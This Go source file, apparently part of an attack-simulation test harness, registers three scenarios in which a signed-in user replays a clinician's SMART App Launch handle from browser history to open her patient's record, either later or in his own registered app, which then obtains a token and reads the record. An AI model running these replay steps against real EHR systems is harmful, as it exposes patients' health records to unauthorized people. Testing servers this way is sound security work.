package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("SM-01", Technique{
	Variant: "in-the-honest-app",
	Title:   "Another's launch, in the thief's own sign-in",
	Story: "A clinician opened an app from her EHR on a patient's record. The address that opened it, with the handle of the launch, is in her browser's history. The " +
		"thief, who has an account too, opens that address in his own browser and signs in as himself: the app shows him her patient.",
	Reads: []string{"SMART App Launch 2.2, EHR launch", "SMART App Launch 2.2, launch context"},
	Has:   []event.Asset{event.BrowserHistory}, Scene: Scene{AppOpened: true},
	Beyond: beyondLaunch,
	Run: func(ctx context.Context, g Ground) error {
		handle, err := launchSeen(g)
		if err != nil {
			return err
		}
		return openWith(ctx, g, handle)
	},
})

var _ = register("SM-01/late", Technique{
	Variant: "from-an-old-log",
	Title:   "A launch from an hour ago",
	Story:   "As before, but the thief finds the history an hour later. Whoever opened the app has long closed it.",
	Reads:   []string{"SMART App Launch 2.2, EHR launch"},
	Has:     []event.Asset{event.BrowserHistory}, Scene: Scene{AppOpened: true},
	Beyond: beyondLaunch,
	Run: func(ctx context.Context, g Ground) error {
		handle, err := launchSeen(g)
		if err != nil {
			return err
		}
		g.Wait(hour)
		return openWith(ctx, g, handle)
	},
})

func openWith(ctx context.Context, g Ground, handle string) error {
	t := g.Target()
	_, err := g.Browser().Visit(ctx, t.AppLaunch+url.QueryEscape(t.FHIRBase)+"&launch="+url.QueryEscape(handle), "")
	return err
}

var _ = register("SM-01/app", Technique{
	Variant: "in-another-app",
	Title:   "A launch of one app opens another",
	Story: "The thief takes the handle of a clinician's launch to an app of his own, which is registered like any, and signs in there as himself. The " +
		"server tells his app whose record she had open, and gives it a token for that.",
	Reads: []string{"SMART App Launch 2.2, EHR launch"},
	Has:   []event.Asset{event.BrowserHistory, event.OwnClient}, Scene: Scene{AppOpened: true},
	Beyond: beyondLaunch,
	Run: func(ctx context.Context, g Ground) error {
		handle, err := launchSeen(g)
		if err != nil {
			return err
		}
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, patient, err := a.openedOn(ctx, handle)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, record(g, patient), t)
		return err
	},
})
